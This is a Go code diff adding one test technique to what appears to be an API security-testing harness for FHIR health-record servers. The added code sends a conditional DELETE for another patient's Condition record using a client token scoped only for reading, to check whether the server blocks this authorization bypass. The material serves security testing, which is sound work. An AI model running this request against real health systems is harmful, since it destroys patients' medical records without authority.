@@ -50,6 +50,25 @@ var _ = register("F-20", Technique{
 	},
 })
 
+var _ = register("F-20/delete", Technique{
+	Variant: "delete-whichever-fits",
+	Title:   "Delete whichever record fits a condition",
+	Story: "The thief's app may read. He sends a deletion that names no record and gives a condition instead, which a stranger's diagnosis fits. An " +
+		"API that asks about the record in the address finds none there to ask about.",
+	Reads:    []string{"FHIR R4 http, conditional delete", "OWASP API5:2023"},
+	Evidence: "A conditional deletion by a client whose scope holds none.",
+	Has:      []event.Asset{event.OwnClient},
+	Run: func(ctx context.Context, g Ground) error {
+		a, t, err := ownToken(ctx, g)
+		if err != nil {
+			return err
+		}
+		fits := g.Target().FHIRBase + "/Condition?_id=cond-" + stranger(g) + "-1"
+		_, err = a.write(ctx, http.MethodDelete, fits, nil, t)
+		return err
+	},
+})
+
 // observersToken is the thief's own, for reading and for writing observations.
 func observersToken(ctx context.Context, g Ground) (*app, fapi.TokenResponse, error) {
 	a, err := ownApp(ctx, g)
